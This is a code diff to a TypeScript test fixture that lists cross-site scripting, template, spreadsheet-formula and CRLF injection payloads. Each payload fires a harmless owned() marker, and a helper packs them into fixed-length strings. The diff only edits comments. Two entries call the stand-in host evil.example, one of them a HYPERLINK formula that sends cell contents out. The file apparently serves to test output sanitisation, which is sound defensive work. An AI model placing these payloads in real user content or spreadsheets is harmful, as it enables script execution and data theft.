@@ -1,9 +1,9 @@
 /**
- * Texts that have become code in some program that shows what others wrote. Each marks what it would become:
- * `data-owned` on an element, or `owned()` when it runs.
+ * Injection payloads: texts that some program has executed when displaying user content. Each leaves a marker:
+ * `data-owned` on an element, or a call of `owned()` when it runs.
  */
 export const hostileMarkup: readonly string[] = [
-  // Elements that run by themselves.
+  // Elements that execute by themselves.
   '<script data-owned>owned()</script>',
   '"><script data-owned>owned()</script>',
   `'-owned()-'`,
@@ -26,7 +26,7 @@ export const hostileMarkup: readonly string[] = [
   '<style data-owned>@import "//evil.example/a.css"</style>',
   '<a data-owned href="javascript:owned()">press</a>',
   '<form data-owned action="javascript:owned()"><button>press</button></form>',
-  // Out of an attribute, an entity, an address.
+  // Breaking out of an attribute, an entity or a URL.
   '" onmouseover="owned()" data-owned="',
   "' onfocus='owned()' autofocus data-owned='",
   '` onerror=owned() data-owned',
@@ -37,7 +37,7 @@ export const hostileMarkup: readonly string[] = [
   'https://example.org/"onclick="owned()"data-owned="',
   'data:text/html,<script data-owned>owned()</script>',
   'java\tscript:owned()',
-  // What changes its meaning when it is read a second time.
+  // Double decoding.
   '<noscript><p title="</noscript><img data-owned src=x onerror=owned()>">',
   '<math><mtext><table><mglyph><style><!--</style><img data-owned title="--&gt;&lt;img src=x onerror=owned()&gt;">',
   '<svg></p><style><a id="</style><img data-owned src=x onerror=owned()>">',
@@ -50,18 +50,18 @@ export const hostileMarkup: readonly string[] = [
   ']]><script data-owned>owned()</script>',
   '\u2028owned()\u2029',
   '{{constructor.constructor("owned()")()}} ${owned()} <%= owned() %>',
-  // Formulas.
+  // Spreadsheet formulas.
   '=cmd|"/c calc"!A1',
   '=HYPERLINK("https://evil.example/?"&A1)',
   '@SUM(1+1)*owned()',
   '+owned()',
   '-owned()',
   '\t=owned()',
-  // Lines of calendars and headers.
+  // Line injection in calendars and headers.
   'A\r\nATTACH:javascript:owned()\r\nX-OWNED:1',
 ]
 
-/** As many of them together as fit into so many letters; each is whole in one of the texts, unless it is longer alone. */
+/** Joins the payloads into texts of at most `most` characters. Only payloads that are longer on their own are cut. */
 export function packedMarkup(most: number): string[] {
   const packs: string[] = []
   for (const text of hostileMarkup) {
